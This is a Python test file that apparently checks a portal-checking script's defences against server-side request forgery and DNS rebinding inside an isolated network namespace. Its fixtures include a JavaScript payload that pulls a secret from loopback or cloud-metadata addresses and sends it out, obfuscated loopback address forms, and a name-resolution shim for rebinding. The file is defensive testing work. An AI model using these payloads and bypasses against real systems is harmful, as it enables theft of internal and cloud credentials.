#!/usr/bin/env python3
"""scripts/check-portal.sh against portals whose page names what the machine
keeps to itself: a service on its loopback and its cloud metadata address, each
holding a secret in a script that the page's code would send to the portal. In
a network namespace of its own, where 192.0.2.10 (public to browsers),
10.0.0.10 and 169.254.169.254 sit on the loopback device; needs root.

Usage: network_test.py SOURCE_DIR
"""
import ctypes
import http.server
import os
import re
import subprocess
import sys
import tempfile
import threading
import unittest

SCRIPT = FOLDER = None
PUBLIC, PRIVATE, METADATA = "192.0.2.10", "10.0.0.10", "169.254.169.254"
SECRET = "s3cret-of-the-build-machine"
SERVERS, PORTS = {}, {}
REQUESTS = []  # (server, path) of every request any server was asked
HEAD = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Varnholt</title>\n'
        '<meta http-equiv="X-UA-Compatible" content="IE=edge">\n')
# The page's code hands on to the portal what a script it names gave it, and
# asks the portal's origin for the secret too.
LEAK = ("<script>function leak() { if (typeof SECRET !== 'undefined') {\n"
        "  var x = new XMLHttpRequest(); x.open('GET', '/leak?' + SECRET); x.send(); } }\n"
        "var r = new XMLHttpRequest();\n"
        "r.onload = function () { (0, eval)(r.responseText); leak(); };\n"
        "r.open('GET', '/creds.js'); r.send(); leak();</script></head><body></body></html>")
HTML = {"Content-Type": "text/html; charset=utf-8"}
CSS = {"Content-Type": "text/css"}
HELD = {"/creds.js": (200, {}, 'var SECRET = "%s";\n' % SECRET),
        "/latest/meta-data/creds.js": (200, {}, 'var SECRET = "%s";\n' % SECRET),
        "/style.css": (200, CSS, "p { color: red; }\n")}
ROUTES = {}
# The servers that stand for what the machine keeps to itself.
SERVICES = ("loop", "twin", "meta")
# Answers a name in the check's own process by the order it is asked (an
# answer's addresses joined by +), and notes each time it is asked.
SITECUSTOMIZE = '''import os, socket
_getaddrinfo, _asked = socket.getaddrinfo, []
def getaddrinfo(host, *args, **kwargs):
    if host == os.environ["REBIND_NAME"]:
        _asked.append(host)
        with open(os.environ["REBIND_LOG"], "a") as log:
            log.write(host + "\\n")
        answers = os.environ["REBIND_ANSWERS"].split(",")
        host = answers[min(len(_asked), len(answers)) - 1]
    return [info for one in host.split("+") for info in _getaddrinfo(one, *args, **kwargs)]
socket.getaddrinfo = getaddrinfo
'''


class Server(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        REQUESTS.append((self.server.name, self.path))
        routes = HELD if self.server.name in SERVICES else ROUTES
        status, headers, body = routes.get(self.path.split("?")[0], (404, {}, ""))
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value.format(**PORTS))
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *args):
        pass


def serve(name, address, port=0):
    server = http.server.ThreadingHTTPServer((address, port), Server)
    server.name = name
    PORTS[name] = server.server_address[1]
    SERVERS[name] = server
    threading.Thread(target=server.serve_forever, daemon=True).start()


def check(host, **env):
    """The lines by check: {name: [(status, line)]}."""
    result = subprocess.run([SCRIPT, host], capture_output=True, text=True, timeout=120,
                            env=dict(os.environ, PYTHONPATH=FOLDER.name, REBIND_NAME="rebind.test",
                                     REBIND_LOG=os.path.join(FOLDER.name, "asked"), **env))
    print(result.stdout + result.stderr)
    lines = {}
    for status, rest in (line.split(" ", 1) for line in result.stdout.splitlines()):
        lines.setdefault(rest.split(":")[0], []).append((status, rest))
    return lines


def setUpModule():
    global FOLDER
    if os.geteuid() != 0:
        raise unittest.SkipTest("needs root, for a network namespace whose loopback holds a "
                                "public, a private and the metadata address")
    # Threads and processes started from here on share the namespace; the
    # machine's own network is left as it was, whatever happens.
    if ctypes.CDLL(None, use_errno=True).unshare(0x40000000) != 0:  # CLONE_NEWNET
        raise unittest.SkipTest("no network namespace: %s" % os.strerror(ctypes.get_errno()))
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    for address in (PUBLIC, PRIVATE, METADATA):
        subprocess.run(["ip", "addr", "add", address + "/32", "dev", "lo"], check=True)
    serve("public", PUBLIC)
    serve("private", PRIVATE)
    serve("loopback", "127.0.0.1")
    serve("loop", "127.0.0.1")
    serve("meta", METADATA)
    # On the public portal's port, for a portal whose name turns to loopback.
    serve("twin", "127.0.0.1", PORTS["public"])
    FOLDER = tempfile.TemporaryDirectory(prefix="portal-net-")
    with open(os.path.join(FOLDER.name, "sitecustomize.py"), "w") as module:
        module.write(SITECUSTOMIZE)


def tearDownModule():
    for server in SERVERS.values():
        server.shutdown()
        server.server_close()
    if FOLDER:
        FOLDER.cleanup()


def page(tag):
    return (200, HTML, HEAD + tag.format(**PORTS) + LEAK)


def script(url):
    return '<script src="%s"></script>' % url


class Network(unittest.TestCase):
    def test_the_check_reaches_no_space_more_private_than_the_portals_own(self):
        creds = "http://127.0.0.1:{loop}/creds.js"
        refused = r"is not fetched: a public portal's page names a loopback address \(players' " \
                  r"browsers would ask their own machine\)"
        # Every form of the loopback address, the metadata address, and beside them a script
        # on the portal's own address, still fetched and judged.
        named = [creds, "http://127.1:{loop}/creds.js", "http://2130706433:{loop}/x.js",
                 "http://0x7f.1:{loop}/x.js", "http://[::ffff:127.0.0.1]:{loop}/x.js",
                 "http://localhost:{loop}/x.js"]
        metadata = "http://%s:{meta}/latest/meta-data/creds.js" % METADATA
        own = "http://%s:{public}/app.js" % PUBLIC
        shared = "http://100.64.0.10:{loop}/x.js"  # carrier-grade NAT: a network's own
        # portal, its routes, the lines that must say so, the services that are asked, and
        # the rebinding name's answers in order
        cases = [
            ("public", {"/": page("".join(map(script, named + [metadata, shared, own]))),
                        "/app.js": (200, {}, "let a = 1;\n")},
             [("FAIL", "scripts", re.escape(url.format(**PORTS)) + " " + refused)
              for url in named] +
             [("FAIL", "scripts", "creds.js is not fetched: a public portal's page names a "
                                  "link-local address \\(.*credentials"),
              ("FAIL", "scripts", re.escape(shared.format(**PORTS)) + " is not fetched: a "
                                  "public portal's page names a private address"),
              ("WARN", "scripts", r"/app.js: let/const \(1, at 1:1\)")], set(), ""),
            ("private", {"/": page(script(creds))},
             [("FAIL", "scripts", "is not fetched: a private portal's page names a loopback "
                                  "address")], set(), ""),
            ("public", {"/": page('<link rel="stylesheet" href="%s/style.css">'
                                  '<link rel="stylesheet" href="/site.css">' % creds[:-9]),
                        "/site.css": (200, CSS, "@import url(http://127.0.0.1:%d/style.css);\n"
                                      % PORTS["loop"])},
             [("WARN", "stylesheets", r"\d/style.css " + refused),
              ("WARN", "stylesheets", r"style.css \(imported by .*/site.css\) " + refused)],
             set(), ""),
            ("public", {"/": page(script("/r.js")), "/r.js": (302, {"Location": creds}, ""),
                        "/stats/varnholt.html": (302, {"Location": creds}, "")},
             [("FAIL", "scripts", r"/r.js is not fetched: a public portal redirects to a loopback "
                                  r"address, http://127.0.0.1:\d+/creds.js \(players'"),
              ("WARN", "statistics-page", "varnholt.html is not fetched: a public portal "
                                          "redirects to a loopback address")], set(), ""),
            # Looked up once, the name is public and nothing listens there.
            ("public", {"/": page(script("http://rebind.test:{loop}/creds.js"))},
             [("FAIL", "scripts", r"rebind.test:\d+/creds.js cannot be fetched: "
                                  r"rebind.test:\d+ refused the connection")],
             set(), PUBLIC + ",127.0.0.1"),
            # Every address a name gives is held to the portal's space, not just the first.
            ("public", {"/": page(script("http://rebind.test:{loop}/creds.js"))},
             [("FAIL", "scripts", r"rebind.test:\d+/creds.js " + refused)], set(),
             PUBLIC + "+127.0.0.1"),
            # The portal's own name turns to loopback after its page came: the page's own
            # requests still go to where the page came from.
            ("rebind", {"/": page(script("/creds.js"))},
             [("FAIL", "scripts", "/creds.js " + refused),
              ("WARN", "statistics-page", "varnholt.html " + refused)],
             set(), PUBLIC + ",127.0.0.1"),
            # A developer's own portal reaches its own machine, but not the metadata address.
            ("loopback", {"/": page(script(creds) + script(metadata))},
             [("FAIL", "scripts", "creds.js is not fetched: a loopback portal's page names a "
                                  "link-local address")], {"loop"}, ""),
        ]
        for row, (portal, routes, says, asked, answers) in enumerate(cases):
            with self.subTest(row=row, portal=portal):
                ROUTES.clear()
                ROUTES.update(routes)
                REQUESTS.clear()
                if os.path.exists(os.path.join(FOLDER.name, "asked")):
                    os.remove(os.path.join(FOLDER.name, "asked"))
                host = "rebind.test" if portal == "rebind" else SERVERS[portal].server_address[0]
                lines = check("%s:%d" % (host, PORTS["public" if portal == "rebind" else portal]),
                              REBIND_ANSWERS=answers)
                served = {server for server, _ in REQUESTS if server in SERVICES}
                leaked = any(SECRET in path for _, path in REQUESTS)
                self.assertEqual((asked, bool(asked)), (served, leaked), "services asked, leaked")
                for status, name, pattern in says:
                    self.assertTrue(any(status == got and re.search(pattern, line)
                                        for got, line in lines.get(name, [])),
                                    "%s %s %s" % (status, name, pattern))
                if answers:
                    with open(os.path.join(FOLDER.name, "asked")) as log:
                        # Once for the name a script names; for the portal's own name, once
                        # for the page, once for the script and once for the statistics page.
                        self.assertEqual(1 if portal == "public" else 3, len(log.readlines()))


if __name__ == "__main__":
    SCRIPT = os.path.join(os.path.abspath(sys.argv.pop(1)), "scripts", "check-portal.sh")
    unittest.main(verbosity=2)
